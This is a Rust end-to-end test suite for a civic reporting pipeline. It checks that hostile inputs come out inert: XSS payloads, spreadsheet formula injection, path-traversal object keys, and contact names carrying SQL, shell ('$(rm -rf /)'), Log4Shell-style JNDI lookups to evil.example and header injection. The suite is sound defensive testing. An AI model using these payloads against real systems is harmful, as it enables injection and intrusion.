//! Hostile input end to end on the local profile, through the built binaries:
//! - a month of abused CSV exports: every good row counted, every bad row quarantined with
//!   file:line:reason, formula cells neutralised in the spreadsheet CSVs, no panic;
//! - foreign files and copies under a month's prefix (random bytes named .csv, a contacts
//!   list, a copied report, backup copies of exports): the month's counts do not change;
//! - an XSS corpus in every user-controlled field that reaches a page (service names,
//!   statuses, council districts, scooter descriptions, object keys in the site bucket):
//!   no page of the site holds anything executable, and every payload shows as text;
//! - hostile object keys (gid-admin uploads, the scooter `image` column): refused, and
//!   nothing is ever written outside the data root;
//! - a hostile contacts.csv: bad rows reported with their line, the rest subscribed, names
//!   never reach the outbox.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use bytes::Bytes;
use gid_core::{BucketName, ObjectKey};
use gid_e2e::html::{executable_content, parse};
use gid_e2e::{
    assert_success, run_local, run_local_json, run_summary, run_with_env, stderr, stdout,
    summary_stage,
};
use gid_storage::{BucketAdmin, LocalStore, ObjectStore, PutOptions};

fn bucket(name: &str) -> BucketName {
    BucketName::new(name).unwrap()
}

async fn put(store: &LocalStore, b: &str, k: &str, body: impl Into<Bytes>) {
    store.create_bucket(&bucket(b)).await.unwrap();
    store
        .put(
            &bucket(b),
            &ObjectKey::new(k).unwrap(),
            body.into(),
            &PutOptions::new("text/csv"),
        )
        .await
        .unwrap();
}

fn read(root: &Path, path: &str) -> String {
    std::fs::read_to_string(root.join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn assert_no_panic(output: &std::process::Output) {
    let err = stderr(output);
    assert!(
        !err.contains("panicked") && !err.contains("RUST_BACKTRACE"),
        "{err}"
    );
}

// ---- CSV abuse through monthly-report --------------------------------------------------

/// One abused export: its bytes, its good rows' service names, and (line, reason) of each
/// bad row.
struct Abuse {
    name: &'static str,
    bytes: Vec<u8>,
    good: Vec<String>,
    bad: Vec<(u64, &'static str)>,
}

const HEADER: &str = "service_request_id,service_name,date_requested,status,public_description";

/// Every id is unique across the corpus (letter per file): ingest keeps one row per
/// `service_request_id`, and this corpus is about rows, not copies.
fn abuse_corpus() -> Vec<Abuse> {
    let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
    let mut corpus = vec![
        Abuse {
            name: "bom-crlf.csv",
            bytes: format!("\u{feff}{HEADER}\r\na1,Pothole,2019-01-02T10:00:00,Open,\"a\r\nb\"\r\na2,Graffiti,2019-01-02,Closed,x\r\na3,Pothole\r\n").into_bytes(),
            good: s(&["Pothole", "Graffiti"]),
            bad: vec![(5, "2 fields, expected 5")],
        },
        Abuse {
            name: "latin1.csv",
            bytes: {
                let mut b = format!("{HEADER}\nb1,Pothole,2019-01-03,Open,ok\nb2,Pothole,2019-01-03,Open,caf").into_bytes();
                b.extend_from_slice(b"\xE9\nb3,Graffiti,2019-01-03,Open,\xC0\xAF\nb4,Graffiti,2019-01-03,Open,fine\n");
                b
            },
            good: s(&["Pothole", "Graffiti"]),
            bad: vec![(3, "not valid UTF-8"), (4, "not valid UTF-8")],
        },
        Abuse {
            name: "unterminated-quote.csv",
            bytes: format!("{HEADER}\nc1,Pothole,2019-01-04,Open,ok\nc2,Pothole,2019-01-04,Open,\"never closed\nc3,Graffiti,2019-01-04,Open,after\nc4,Graffiti,2019-01-04,Open,after\n").into_bytes(),
            good: s(&["Pothole", "Graffiti", "Graffiti"]),
            bad: vec![(3, "never closed")],
        },
        Abuse {
            name: "header-only.csv",
            bytes: format!("{HEADER}\r\n").into_bytes(),
            good: vec![],
            bad: vec![],
        },
        Abuse {
            name: "duplicate-headers.csv",
            bytes: b"service_request_id,service_name,Service_Name,date_requested,date_requested\nd1,Pothole,Other,2019-01-05,nonsense\n".to_vec(),
            good: s(&["Pothole"]),
            bad: vec![],
        },
        Abuse {
            name: "formulas.csv",
            bytes: format!(
                "{HEADER}\ne1,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",2019-01-06,Open,x\ne2,+SUM(1),2019-01-06,Open,x\ne3,-2+3,2019-01-06,Open,x\ne4,@cmd,2019-01-06,Open,x\ne5,\"ok;=1+1\",2019-01-06,Open,x\ne6,\" =1+1\",2019-01-06,Open,x\n"
            )
            .into_bytes(),
            good: s(&["=HYPERLINK(\"http://evil.example\",\"x\")", "+SUM(1)", "-2+3", "@cmd", "ok;=1+1", " =1+1"]),
            bad: vec![],
        },
        Abuse {
            name: "field-counts.csv",
            bytes: format!("{HEADER}\nf1,Pothole,2019-01-07,Open,x,extra\nf2,Pothole,2019-01-07,Open,x\nf3\n\"f4,Pothole\",2019-01-07,Open,x\nf5,Pothole,not-a-date,Open,x\n").into_bytes(),
            good: s(&["Pothole"]),
            bad: vec![
                (2, "6 fields, expected 5"),
                (4, "1 fields, expected 5"),
                (5, "4 fields, expected 5"),
                (6, "unparseable date_requested"),
            ],
        },
        Abuse {
            name: "cr-only-blank-lines-bare-quotes.csv",
            bytes: format!("{HEADER}\rg1,Pothole,2019-01-08,Open,5\" hole\r\r\n\ng2,Graffiti,2019-01-08,Open,say \"hi\"\r").into_bytes(),
            good: s(&["Pothole", "Graffiti"]),
            bad: vec![],
        },
        Abuse {
            name: "ten-mb-field.csv",
            bytes: format!("{HEADER}\nh1,Pothole,2019-01-09,Open,\"{}\"\nh2,Pothole,2019-01-09,Open,x,y\n", "z".repeat(10 * 1024 * 1024)).into_bytes(),
            good: s(&["Pothole"]),
            bad: vec![(3, "6 fields, expected 5")],
        },
        Abuse {
            name: "empty.csv",
            bytes: vec![],
            good: vec![],
            bad: vec![],
        },
    ];
    // A large export (the million-row file is parsed at unit level in gid-ingest, where a
    // debug build takes ~10 s; here 200,000 rows keep the binary run short).
    let mut big = format!("{HEADER}\n");
    let mut good = Vec::new();
    let mut bad = Vec::new();
    for i in 0..200_000u64 {
        if i % 50_000 == 49_999 {
            big.push_str("broken\n");
            bad.push((i + 2, "1 fields, expected 5"));
        } else {
            let service = if i % 2 == 0 { "Pothole" } else { "Graffiti" };
            big.push_str(&format!("{i},{service},2019-01-10T00:00:00,Closed,\n"));
            good.push(service.to_owned());
        }
    }
    corpus.push(Abuse {
        name: "big.csv",
        bytes: big.into_bytes(),
        good,
        bad,
    });
    corpus
}

#[tokio::test]
async fn a_month_of_abused_exports_keeps_every_good_row_and_quarantines_every_bad_one() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let store = LocalStore::new(root);
    let corpus = abuse_corpus();
    let mut expected: BTreeMap<String, u64> = BTreeMap::new();
    let (mut good_rows, mut bad_rows) = (0usize, 0usize);
    for abuse in &corpus {
        put(
            &store,
            "gid-requests",
            &format!("2019/jan/{}", abuse.name),
            abuse.bytes.clone(),
        )
        .await;
        for s in &abuse.good {
            // Aggregation trims service names (" =1+1" is counted as "=1+1").
            *expected.entry(s.trim().to_owned()).or_default() += 1;
        }
        good_rows += abuse.good.len();
        bad_rows += abuse.bad.len();
    }
    put(
        &store,
        "gid-requests",
        "2019/jan/notes.txt",
        "not an export",
    )
    .await;

    let started = std::time::Instant::now();
    let (out, doc) = run_local_json("monthly-report", root, &["--month", "2019-01"]);
    eprintln!(
        "monthly-report on the abuse corpus: {:?}",
        started.elapsed()
    );
    assert_no_panic(&out);
    assert_success(&out);
    let ingest = &summary_stage(&doc, "2019-01", "ingest")["counts"];
    assert_eq!(
        (&ingest["rows"], &ingest["quarantined"]),
        (&good_rows.into(), &bad_rows.into()),
        "{ingest:#}"
    );

    // Every good row is counted under its service (rows lost: 0).
    let report = read(root, "gid-reports/2019/jan/final_report.csv");
    let mut reader = csv::Reader::from_reader(report.as_bytes());
    let mut counted: BTreeMap<String, u64> = BTreeMap::new();
    for record in reader.records() {
        let record = record.unwrap();
        let name = &record[1];
        // Spreadsheet CSVs: no cell may start (after spaces) with a formula trigger.
        assert!(
            !name
                .trim_start()
                .starts_with(['=', '+', '-', '@', '\t', '\r']),
            "formula cell {name:?} in final_report.csv"
        );
        let original = name.strip_prefix('\'').unwrap_or(name).to_owned();
        counted.insert(original, record[2].parse().unwrap());
    }
    assert_eq!(counted, expected, "per-service counts");
    assert!(
        report.contains("\"ok;=1+1\""),
        "cells with ';' are quoted: {report}"
    );

    // Every bad row is in its file's quarantine with its line and reason.
    for abuse in corpus.iter().filter(|a| !a.bad.is_empty()) {
        let q = read(
            root,
            &format!("gid-work/quarantine/2019/jan/{}.quarantine.csv", abuse.name),
        );
        let mut reader = csv::Reader::from_reader(q.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), abuse.bad.len(), "{}: {q}", abuse.name);
        for (record, (line, reason)) in rows.iter().zip(&abuse.bad) {
            assert_eq!(&record[0], format!("2019/jan/{}", abuse.name));
            assert_eq!(record[1].parse::<u64>().unwrap(), *line, "{}", abuse.name);
            assert!(record[2].contains(reason), "{}: {record:?}", abuse.name);
        }
    }
    let log = stderr(&out);
    assert!(
        log.contains("2019/jan/unterminated-quote.csv line 3"),
        "the log names file and line: {log}"
    );
}

#[tokio::test]
async fn foreign_files_and_backup_copies_do_not_change_the_months_counts() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    crate::fixtures::seed(root, "2019-01", "2019-01", &Default::default()).await;
    let (clean, clean_doc) = run_local_json("monthly-report", root, &["--month", "2019-01"]);
    assert_success(&clean);
    let report = "gid-reports/2019/jan/final_report.csv";
    let clean_report = read(root, report);
    let truth = gid_sample::generate_month(
        "2019-01".parse().unwrap(),
        &gid_sample::SampleSpec::default(),
    )
    .truth;
    assert_eq!(
        summary_stage(&clean_doc, "2019-01", "aggregate")["counts"]["total_requests"],
        truth.total_rows
    );

    // What lands in a month's folder besides the exports: random bytes named like an
    // export, an operator's contacts list, a copied report, and two copies of exports
    // (made later than the originals, so their rows are the ones kept).
    let store = LocalStore::new(root);
    let part = |name: &str| read(root, &format!("gid-requests/2019/jan/{name}"));
    let foreign: [(&str, Vec<u8>); 5] = [
        ("zz-random.csv", gid_sample::binary_noise(1 << 20)),
        ("contacts.csv", gid_sample::CONTACTS_CSV.as_bytes().to_vec()),
        ("final_report.csv", clean_report.clone().into_bytes()),
        ("backup/part-001.csv", part("part-001.csv").into_bytes()),
        ("part-002 (1).csv", part("part-002.csv").into_bytes()),
    ];
    for (name, body) in &foreign {
        put(
            &store,
            "gid-requests",
            &format!("2019/jan/{name}"),
            body.clone(),
        )
        .await;
    }
    let copied = |name: &str| {
        csv::Reader::from_reader(part(name).as_bytes())
            .records()
            .count()
    };
    let dirty_in = |name: &str| truth.dirty.iter().filter(|d| d.file == name).count();
    let copies = copied("part-001.csv") - dirty_in("part-001.csv") + copied("part-002.csv")
        - dirty_in("part-002.csv");

    let (out, doc) = run_local_json("monthly-report", root, &["--month", "2019-01"]);
    assert_no_panic(&out);
    assert_success(&out);
    assert_eq!(
        read(root, report),
        clean_report,
        "the month's counts are those of its exports alone"
    );
    let ingest = &summary_stage(&doc, "2019-01", "ingest")["counts"];
    assert_eq!(ingest["files"], 10, "{ingest:#}");
    let mut skipped: Vec<(&str, &str)> = ingest["files_skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["key"].as_str().unwrap(), f["kind"].as_str().unwrap()))
        .collect();
    skipped.sort();
    assert_eq!(
        skipped,
        [
            ("2019/jan/contacts.csv", "missing_columns"),
            ("2019/jan/final_report.csv", "missing_columns"),
            ("2019/jan/part-empty.csv", "empty"),
            ("2019/jan/zz-random.csv", "not_text"),
        ]
    );
    assert_eq!(ingest["rows"], truth.total_rows);
    assert_eq!(ingest["quarantined"], truth.dirty.len());
    assert_eq!(ingest["duplicates_dropped"], copies);
    let mut pairs: Vec<(&str, &str)> = ingest["duplicates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["file"].as_str().unwrap(),
                d["kept_from"].as_str().unwrap(),
            )
        })
        .collect();
    pairs.sort();
    assert_eq!(
        pairs,
        [
            ("2019/jan/part-001.csv", "2019/jan/backup/part-001.csv"),
            ("2019/jan/part-002.csv", "2019/jan/part-002 (1).csv"),
        ]
    );
    let log = stderr(&out);
    for (name, _) in &foreign[..3] {
        assert!(
            log.lines().any(|l| l.contains("WARN")
                && l.contains(&format!("skipping s3://gid-requests/2019/jan/{name}:"))),
            "{name} is not named in the log:\n{log}"
        );
    }
    assert!(
        log.contains("s3://gid-requests/2019/jan/part-001.csv repeats")
            && log
                .contains("service_request_ids of s3://gid-requests/2019/jan/backup/part-001.csv"),
        "{log}"
    );
}

// ---- XSS -------------------------------------------------------------------------------

/// Payloads that would run script, load something or hijack links if they reached a page
/// unescaped.
const XSS: [&str; 26] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "'><svg onload=alert(3)>",
    "javascript:alert(4)",
    "</title><script>alert(5)</script>",
    "<svg><script>alert(6)</script></svg>",
    "</style><script>alert(7)</script>",
    "<a href=\"javascript:alert(8)\">x</a>",
    "&lt;script&gt;alert(9)&lt;/script&gt;",
    "&#60;script&#62;alert(10)&#60;/script&#62;",
    "<iframe srcdoc=\"<script>alert(11)</script>\"></iframe>",
    "\u{FF1C}script\u{FF1E}alert(12)\u{FF1C}/script\u{FF1E}",
    "<ScRiPt>alert(13)</sCrIpT>",
    "<body onload=alert(14)>",
    "<math><mtext></title><img src=x onerror=alert(15)>",
    "\" onmouseover=\"alert(16)",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(17)\">",
    "<base href=\"http://evil.example/\">",
    "<!-- <script>alert(19)</script> -->",
    "]]><script>alert(20)</script>",
    "<object data=\"javascript:alert(21)\"></object>",
    "data:text/html,<script>alert(22)</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<svg><a xlink:href=\"javascript:alert(24)\"><text>x</text></a></svg>",
    "<img src=\"x\" onerror=\"&#97;lert(25)\">",
    "\u{0}<script>alert(26)</script>\u{202E}",
];

/// A payload as it must read on the page (NUL bytes become U+FFFD in HTML text).
fn shown(payload: &str) -> String {
    payload.replace('\0', "")
}

fn csv_line(cells: &[&str]) -> String {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    w.write_record(cells).unwrap();
    String::from_utf8(w.into_inner().unwrap()).unwrap()
}

fn assert_inert(page_name: &str, page: &str) {
    let problems = executable_content(page);
    assert!(problems.is_empty(), "{page_name}: {problems:#?}");
}

#[test]
fn the_page_checker_catches_every_payload_when_it_is_not_escaped() {
    // The XSS assertions below are only as good as this checker: fed raw, every payload
    // with markup must be caught.
    for payload in XSS {
        let page = format!("<!DOCTYPE html><html><body><p>{payload}</p></body></html>");
        let caught = !executable_content(&page).is_empty();
        let has_markup = payload.contains('<') && !payload.contains("\u{FF1C}");
        let inert_anyway = payload.starts_with("&") || payload.starts_with("javascript:");
        if has_markup && !inert_anyway {
            assert!(caught, "the checker misses {payload:?}");
        }
        let attr = format!("<!DOCTYPE html><html><body><a href=\"{payload}\">x</a></body></html>");
        if payload.starts_with("javascript:") || payload.starts_with("data:") {
            assert!(!executable_content(&attr).is_empty(), "href {payload:?}");
        }
    }
}

fn photos_env(root: &Path) -> Vec<(String, String)> {
    vec![
        (
            "GID__LOCAL__DATA_ROOT".into(),
            root.to_str().unwrap().into(),
        ),
        (
            "GID__NOTIFY__OUTBOX_DIR".into(),
            root.join("outbox").to_str().unwrap().into(),
        ),
    ]
}

fn run_env(name: &str, env: &[(String, String)], args: &[&str]) -> std::process::Output {
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    run_with_env(name, args, &env, "local")
}

#[tokio::test]
async fn no_page_of_the_site_holds_an_executable_payload() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let store = LocalStore::new(root);
    // With coordinates, so the map draws (and titles) every service and district.
    let mut csv = format!("{HEADER},council_district,lat,long\n");
    let (lat, long) = ("32.7157", "-117.1611");
    for (i, payload) in XSS.iter().enumerate() {
        // The payload as a service name, as a status, as a council district, and as the
        // description of an e-scooter request.
        csv.push_str(&csv_line(&[
            &format!("s{i}"),
            payload,
            "2019-01-05T10:00:00",
            "Open",
            "x",
            "1",
            lat,
            long,
        ]));
        csv.push_str(&csv_line(&[
            &format!("t{i}"),
            "Pothole",
            "2019-01-05T10:00:00",
            payload,
            "x",
            "2",
            lat,
            long,
        ]));
        csv.push_str(&csv_line(&[
            &format!("d{i}"),
            "Pothole",
            "2019-01-05T10:00:00",
            "Open",
            "x",
            payload,
            lat,
            long,
        ]));
        csv.push_str(&csv_line(&[
            &format!("e{i}"),
            "Shared Mobility Device",
            "2019-01-05T10:00:00",
            "Open",
            payload,
            "3",
            lat,
            long,
        ]));
    }
    put(&store, "gid-requests", "2019/jan/hostile.csv", csv).await;
    // Hostile object names in the site bucket itself: the index lists them.
    let mut hostile_keys = Vec::new();
    for payload in XSS {
        let key = format!("hostile/{}.html", shown(payload));
        if ObjectKey::new(key.as_str()).is_ok() {
            put(&store, "gid-reports", &key, "x").await;
            hostile_keys.push(key);
        }
    }
    assert!(
        hostile_keys.len() >= 20,
        "most payloads are valid keys: {hostile_keys:?}"
    );

    let env = photos_env(root);
    // The site in Spanish too: the payloads also go through Apertium.
    let config_dir = tempfile::tempdir().unwrap();
    let config = config_dir.path().join("languages.toml");
    std::fs::write(&config, "[publish]\nlanguages = [\"en\", \"es\"]\n").unwrap();
    let month = ["--month", "2019-01", "--config", config.to_str().unwrap()];
    let out = run_env("monthly-report", &env, &month);
    assert_no_panic(&out);
    assert_success(&out);
    let out = run_env("scooter-pickups", &env, &month);
    assert_no_panic(&out);
    assert_success(&out);

    let pages = [
        ("index.html", "keys"),
        (
            "2019/jan/final_report.html",
            "services, statuses, districts",
        ),
        ("2019/jan/chart.html", "services"),
        ("2019/jan/map.html", "services, districts"),
        ("trends.html", "services, districts"),
        ("2019/jan/scooter_pickups.html", "descriptions"),
    ];
    let mut checks = 0;
    for (page_name, _) in pages {
        let page = read(root, &format!("gid-reports/{page_name}"));
        assert_inert(page_name, &page);
        let (_, text) = parse(&page);
        // Each payload arrived and shows as text (fields × payloads on this page).
        let expected_fields = match page_name {
            "2019/jan/final_report.html" => 3,
            "2019/jan/map.html" | "trends.html" => 2,
            "index.html" => 0,
            _ => 1,
        };
        for payload in XSS {
            let shown = shown(payload);
            let occurrences = text.matches(shown.as_str()).count();
            assert!(
                occurrences >= expected_fields,
                "{page_name}: {payload:?} shows {occurrences} times, expected {expected_fields}"
            );
            if payload.contains(['<', '"', '&']) {
                assert!(
                    !page.contains(shown.as_str()),
                    "{page_name}: {payload:?} appears unescaped"
                );
            }
            checks += expected_fields;
        }
    }
    // What the engine made of the payloads differs, but the translated pages stay inert.
    for page_name in [
        "es/2019/jan/final_report.html",
        "es/2019/jan/chart.html",
        "es/2019/jan/scooter_pickups.html",
        "es/trends.html",
    ] {
        assert_inert(page_name, &read(root, &format!("gid-reports/{page_name}")));
    }
    let index = read(root, "gid-reports/index.html");
    let (_, index_text) = parse(&index);
    for key in &hostile_keys {
        assert!(index_text.contains(key.as_str()), "index lacks {key:?}");
        checks += 1;
    }
    // Every link of the index and of the trends (both languages) resolves to a file of the
    // site (on disk, as a browser would).
    for page_name in ["index.html", "trends.html", "es/trends.html"] {
        let page = read(root, &format!("gid-reports/{page_name}"));
        let folder = page_name.rsplit_once('/').map_or("", |(folder, _)| folder);
        for href in gid_e2e::html::hrefs(&page) {
            let from_root = match href.strip_prefix("../") {
                Some(up) if !folder.is_empty() => up.to_owned(),
                _ => format!(
                    "{folder}{}{}",
                    if folder.is_empty() { "" } else { "/" },
                    href.strip_prefix("./").expect("relative links")
                ),
            };
            let path = percent_decode(&from_root);
            assert!(
                root.join("gid-reports").join(&path).is_file(),
                "{page_name} link {href} → {path} is missing"
            );
        }
    }
    eprintln!(
        "XSS: {} payloads, {checks} field×page checks, {} pages",
        XSS.len(),
        pages.len()
    );
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            out.push(u8::from_str_radix(&s[i + 1..i + 3], 16).unwrap());
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8(out).unwrap()
}

// ---- object keys -----------------------------------------------------------------------

/// Every file under `dir` (relative paths).
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let entry = entry.unwrap();
            let path = entry.path();
            if entry.file_type().unwrap().is_dir() {
                stack.push(path);
            } else {
                out.push(path.strip_prefix(dir).unwrap().to_path_buf());
            }
        }
    }
    out.sort();
    out
}

/// Keys that must never be accepted (NUL cannot pass through argv: it is refused at unit
/// level in gid-core and through the scooter `image` column below).
fn hostile_keys(outside: &Path) -> Vec<String> {
    vec![
        "../x".into(),
        "../../x".into(),
        "a/../../x".into(),
        "./x".into(),
        "a//x".into(),
        "/tmp/gid-absolute-x".into(),
        outside.join("abs").to_str().unwrap().into(),
        "..\\..\\x".into(),
        "a\\x".into(),
        "\u{FF0E}\u{FF0E}/x".into(),
        "\u{2025}/x".into(),
        "2019\u{2215}x".into(),
        "2019\u{FF0F}x".into(),
        "x\u{202E}lmth.csv".into(),
        "a\nb".into(),
        "k".repeat(1025),
        format!("{}.csv", "s".repeat(300)),
        "".into(),
    ]
}

#[test]
fn hostile_keys_are_refused_and_nothing_lands_outside_the_data_root() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("data");
    std::fs::create_dir_all(&root).unwrap();
    let source = dir.path().join("upload.csv");
    std::fs::write(&source, "a\n1\n").unwrap();
    assert_success(&run_local(
        "gid-admin",
        &root,
        &["bucket", "create", "gid-scratch"],
    ));
    let keys = hostile_keys(dir.path());
    for key in &keys {
        let out = run_local(
            "gid-admin",
            &root,
            &[
                "object",
                "upload",
                source.to_str().unwrap(),
                "gid-scratch",
                "--key",
                key,
            ],
        );
        assert_no_panic(&out);
        assert!(
            !out.status.success(),
            "{key:?} was accepted: {}",
            stdout(&out)
        );
        let err = stderr(&out);
        assert!(
            err.contains("refused") || err.contains("cannot be stored"),
            "{key:?}: the error says why: {err}"
        );
    }
    // A plain upload works (the refusals are about the keys, not the command).
    assert_success(&run_local(
        "gid-admin",
        &root,
        &[
            "object",
            "upload",
            source.to_str().unwrap(),
            "gid-scratch",
            "--key",
            "ok/x.csv",
        ],
    ));
    let files = walk(dir.path());
    for f in &files {
        let f = f.to_str().unwrap();
        assert!(
            f == "upload.csv" || f.starts_with("data/gid-scratch/") || f.starts_with("data/.gid/"),
            "unexpected file {f} around the data root: {files:?}"
        );
    }
    assert_eq!(
        walk(&root.join("gid-scratch")),
        [PathBuf::from("ok/x.csv")],
        "only the good upload is in the bucket"
    );
    assert!(!Path::new("/tmp/gid-absolute-x").exists());
}

#[tokio::test]
async fn scooter_image_keys_cannot_reach_outside_the_images_bucket() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("data");
    let store = LocalStore::new(&root);
    // A real photo outside the data root and beside the images bucket: labelling either
    // would mean gid read outside its bucket.
    let photos = std::env::var("GID_SAMPLE_IMAGES").unwrap_or_else(|_| {
        format!(
            "{}/.cache/gid-sample-images",
            std::env::var("HOME").unwrap()
        )
    });
    let photo = std::fs::read(Path::new(&photos).join("motorcycle_left.png"))
        .expect("sample photos: run `make sample-images`");
    std::fs::write(dir.path().join("outside.png"), &photo).unwrap();
    put(&store, "gid-staging", "beside.png", photo.clone()).await;
    put(&store, "gid-images", "inside.png", photo).await;
    let outside = dir.path().join("outside.png");
    let images = [
        "../outside.png".to_owned(),
        "../../outside.png".to_owned(),
        "../gid-staging/beside.png".to_owned(),
        outside.to_str().unwrap().to_owned(),
        "..\\gid-staging\\beside.png".to_owned(),
        "\u{FF0E}\u{FF0E}/gid-staging/beside.png".to_owned(),
        "%2e%2e/gid-staging/beside.png".to_owned(),
        "inside.png\0../../outside.png".to_owned(),
        "inside.png".to_owned(),
    ];
    let mut csv = format!("{HEADER},image\n");
    for (i, image) in images.iter().enumerate() {
        csv.push_str(&csv_line(&[
            &format!("r{i}"),
            "Shared Mobility Device",
            "2019-01-05T10:00:00",
            "Open",
            "The scooter is blocking the sidewalk, terrible",
            image,
        ]));
    }
    put(&store, "gid-requests", "2019/jan/images.csv", csv).await;
    let env = photos_env(&root);
    let out = run_env(
        "scooter-pickups",
        &env,
        &["--month", "2019-01", "--output", "json"],
    );
    assert_no_panic(&out);
    assert_success(&out);
    let doc = run_summary(&out);
    assert_eq!(
        summary_stage(&doc, "2019-01", "enrich")["counts"]["requests"],
        9
    );
    let page = read(&root, "gid-reports/2019/jan/scooter_pickups.html");
    let (_, text) = parse(&page);
    for image in &images[..images.len() - 1] {
        let labelled = format!("{image} (labelled)");
        assert!(!text.contains(&labelled), "{image:?} was read: {text}");
        assert!(
            text.contains(&format!("{image} (invalid_key)"))
                || text.contains(&format!("{image} (missing)")),
            "{image:?} has no refusal on the page"
        );
    }
    assert!(
        text.contains("inside.png (labelled)"),
        "the good photo is labelled"
    );
}

// ---- contacts --------------------------------------------------------------------------

#[test]
fn hostile_contacts_are_reported_by_line_and_names_never_reach_the_outbox() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    crate::fixtures::seed_default(root, "2019-01", "2019-01");
    // Names that try to inject into a spreadsheet, a page, SQL, a terminal, a log, a shell,
    // a template: each row is otherwise valid and must be subscribed.
    let names = [
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "<script>alert(1)</script>",
        "Robert'); DROP TABLE contacts;--",
        "\u{1b}[2J\u{1b}[31mFAKE LOG LINE",
        "Eve\nInjected: line",
        "$(rm -rf /) `id`",
        "{{7*7}} ${jndi:ldap://evil.example/a}",
        "Ann\u{202E}nimdA",
    ];
    let mut csv = String::from("Name,Department,Email,Phone\n");
    let mut line = 2;
    for (i, name) in names.iter().enumerate() {
        csv.push_str(&csv_line(&[
            name,
            "Trash",
            &format!("crew{i}@example.org"),
            &format!("+1619555{:04}", 100 + i),
        ]));
        line += 1 + name.matches('\n').count();
    }
    let bad = [
        (
            ["Bad Phone", "Trash", "", "619-555"],
            "phone number \"619-555\" is invalid",
        ),
        (
            ["Bad Phone 2", "Trash", "", "+1 (619) 555-01x0"],
            "phone number",
        ),
        (
            ["Bad Phone 3", "Trash", "", "+0123456789"],
            "country codes never start with 0",
        ),
        (
            ["Bad Phone 4", "Trash", "", "+1\n6195550100"],
            "phone number",
        ),
        (
            ["Bad Email", "Trash", "sam@example", ""],
            "email address \"sam@example\" is invalid",
        ),
        (
            ["Bad Email 2", "Trash", "a@b@example.org", ""],
            "more than one '@'",
        ),
        (
            [
                "Bad Email 3",
                "Trash",
                "x@example.org\r\nBcc: all@example.org",
                "",
            ],
            "email address",
        ),
        (
            ["Bad Email 4", "Trash", "<script>@example.org", ""],
            "email address",
        ),
        (
            ["No Endpoint", "Trash", "", ""],
            "neither a phone number nor an email address",
        ),
        (
            ["No Department", "", "d@example.org", ""],
            "the department is empty",
        ),
        (
            ["Symbols", "&&&", "s@example.org", ""],
            "no letters or digits",
        ),
    ];
    let mut bad_lines = Vec::new();
    for (cells, reason) in bad {
        csv.push_str(&csv_line(&cells));
        bad_lines.push((line, reason));
        line += 1 + cells.iter().map(|c| c.matches('\n').count()).sum::<usize>();
    }
    csv.push_str("Short,Trash\n");
    bad_lines.push((line, "2 fields, expected 4"));
    line += 1;
    // Duplicates of the first contact's endpoints (email in another case) collapse.
    csv.push_str(&csv_line(&[
        "Dup",
        "Trash",
        "CREW0@EXAMPLE.ORG",
        "+16195550100",
    ]));
    let dup_line = line;
    let file = root.join("contacts.csv");
    std::fs::write(&file, &csv).unwrap();

    let out = run_local(
        "gid-admin",
        root,
        &["subscribe", "--file", file.to_str().unwrap()],
    );
    assert_no_panic(&out);
    assert_success(&out);
    let said = stdout(&out);
    assert!(
        said.contains(&format!(
            "{} contacts → 1 topics: {} subscribed",
            names.len(),
            names.len() * 2
        )),
        "{said}"
    );
    assert!(
        said.contains(&format!("{} rejected rows", bad_lines.len())),
        "{said}"
    );
    let err = stderr(&out);
    for (line, reason) in &bad_lines {
        let found = err
            .lines()
            .any(|l| l.contains(&format!("contacts.csv line {line}: ")) && l.contains(reason));
        assert!(found, "line {line} ({reason}) not reported:\n{err}");
    }
    assert!(
        err.contains(&format!("contacts.csv line {dup_line}: "))
            && err.contains("not subscribed twice"),
        "{err}"
    );
    // Hostile text never reaches the terminal raw: no escape sequence, no forged line.
    assert!(!err.contains('\u{1b}') && !said.contains('\u{1b}'), "{err}");
    assert!(
        !err.lines()
            .any(|l| l.starts_with("Injected") || l.starts_with("Bcc")),
        "{err}"
    );

    // Alerts go out; no name (nor a fragment of one) is in any outbox file.
    assert_success(&run_local("monthly-report", root, &["--month", "2019-01"]));
    let outbox = walk(&root.join("outbox"));
    assert!(
        outbox.iter().any(|p| p.starts_with("messages")),
        "{outbox:?}"
    );
    let fragments = [
        "HYPERLINK",
        "<script",
        "&lt;script",
        "DROP TABLE",
        "FAKE LOG",
        "Injected",
        "rm -rf",
        "jndi",
        "nimdA",
        "Robert",
    ];
    for path in &outbox {
        let body = std::fs::read_to_string(root.join("outbox").join(path)).unwrap();
        for f in fragments {
            assert!(!body.contains(f), "{f:?} reached {}", path.display());
        }
    }
}
